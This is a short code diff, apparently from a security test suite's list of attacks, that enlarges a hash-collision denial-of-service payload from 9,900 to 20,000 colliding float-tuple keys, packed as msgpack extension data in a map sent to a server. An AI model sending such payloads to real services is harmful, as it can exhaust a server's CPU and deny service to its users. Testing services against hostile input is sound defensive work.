@@ -125,7 +125,7 @@ ATTACKS = (
         import itertools
         # hash(m * 2.0 ** (61 * j)) is the same for every j; a tuple's hash follows from those of its items
         same = [2.0 ** (61 * j) for j in range(-16, 16)]
-        keys = [msgpack.packb(list(key)) for key in itertools.islice(itertools.product(same, repeat=3), 9_900)]
+        keys = [msgpack.packb(list(key)) for key in itertools.islice(itertools.product(same, repeat=3), 20_000)]
         extension = [b"\\xc7" + bytes([len(key), 2]) + key for key in keys]
         head = b"\\x82\\xa6number\\x01\\xa6answer\\xde" + struct.pack(">H", len(keys))
         send(frame(head + b"".join(key + b"\\xc0" for key in extension)))
